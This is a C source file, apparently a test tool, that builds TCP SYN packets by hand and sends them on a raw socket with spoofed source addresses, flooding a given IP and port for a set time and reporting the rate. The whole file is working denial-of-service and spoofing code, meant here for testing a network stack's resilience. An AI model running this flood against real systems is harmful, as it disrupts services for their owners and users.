/*
 * syn-flood IP PORT SECS SRC COUNT: TCP SYNs to IP:PORT as fast as this
 * host sends them, for SECS seconds, each from a random port of one of
 * COUNT addresses from SRC on (SRC, SRC+1, ...), which must be addresses
 * no host answers for: the target's SYN-ACKs and ARP requests go
 * unanswered and its half-open connections stay, as in a SYN flood.
 * Then
 *
 *   syn-flood: N SYNs in S s (R/s) to IP:PORT from COUNT addresses
 *   from SRC, E send errors (first: WHY)
 *
 * The headers are built here and sent on a raw socket (IP_HDRINCL): the
 * host's own TCP never sees these connections, so it sends no reset.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include "tests/tools/flood/flood.h"

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t mss[4];		/* the option Linux's SYNs carry first */
};

static void build(struct syn *s, struct in_addr src, struct in_addr dst,
		  uint16_t sport, uint16_t dport, uint32_t seq)
{
	uint32_t sum;

	memset(s, 0, sizeof(*s));
	s->ip.version = 4;
	s->ip.ihl = sizeof(s->ip) / 4;
	s->ip.tot_len = htons(sizeof(*s));
	s->ip.id = htons((uint16_t)seq);
	s->ip.ttl = 64;
	s->ip.protocol = IPPROTO_TCP;
	s->ip.saddr = src.s_addr;
	s->ip.daddr = dst.s_addr;
	s->ip.check = flood_checksum(flood_sum(&s->ip, sizeof(s->ip), 0));
	s->tcp.source = htons(sport);
	s->tcp.dest = htons(dport);
	s->tcp.seq = htonl(seq);
	s->tcp.doff = (sizeof(s->tcp) + sizeof(s->mss)) / 4;
	s->tcp.syn = 1;
	s->tcp.window = htons(64240);
	s->mss[0] = 2;		/* kind MSS, length 4, 1460 */
	s->mss[1] = 4;
	s->mss[2] = 1460 >> 8;
	s->mss[3] = 1460 & 0xff;
	sum = flood_pseudo_sum(src, dst, IPPROTO_TCP,
			       sizeof(s->tcp) + sizeof(s->mss));
	s->tcp.check = flood_checksum(flood_sum(&s->tcp, sizeof(s->tcp) +
						sizeof(s->mss), sum));
}

int main(int argc, char **argv)
{
	struct timeval wait = { .tv_sec = 0, .tv_usec = 100000 };
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned long secs, count, sent = 0, errors = 0;
	uint32_t state = 0x6f737072, r;
	int first_error = 0, fd;
	struct in_addr src, from;
	uint16_t dport;
	struct syn s;
	double t0, t;

	if (argc != 6)
		flood_die("usage: syn-flood IP PORT SECS SRC COUNT");
	to.sin_addr = flood_address(argv[1], "syn-flood");
	dport = (uint16_t)flood_number(argv[2], 1, 65535, "syn-flood port");
	secs = flood_number(argv[3], 1, FLOOD_SECS_MAX, "syn-flood secs");
	src = flood_address(argv[4], "syn-flood source");
	count = flood_number(argv[5], 1, 256, "syn-flood count");
	flood_deadline(secs + 5);

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		flood_die("syn-flood: raw socket: %s", strerror(errno));
	if (setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof(wait)))
		flood_die("syn-flood: SO_SNDTIMEO: %s", strerror(errno));

	t0 = flood_now();
	do {
		r = flood_random(&state);
		from.s_addr = htonl(ntohl(src.s_addr) + r % count);
		/* Ports from 1024 up, as a client's would be. */
		build(&s, from, to.sin_addr,
		      (uint16_t)(1024 + (r >> 8) % 64512), dport,
		      flood_random(&state));
		if (sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&to,
			   sizeof(to)) == (ssize_t)sizeof(s)) {
			sent++;
		} else {
			if (!first_error)
				first_error = errno;
			errors++;
		}
		t = flood_now();
	} while (t - t0 < (double)secs);

	printf("syn-flood: %lu SYNs in %.1f s (%.0f/s) to %s:%s from %lu "
	       "addresses from %s, %lu send errors (first: %s)\n", sent,
	       t - t0, (double)sent / (t - t0), argv[1], argv[2], count,
	       argv[4], errors, first_error ? strerror(first_error) : "none");
	close(fd);
	return 0;
}
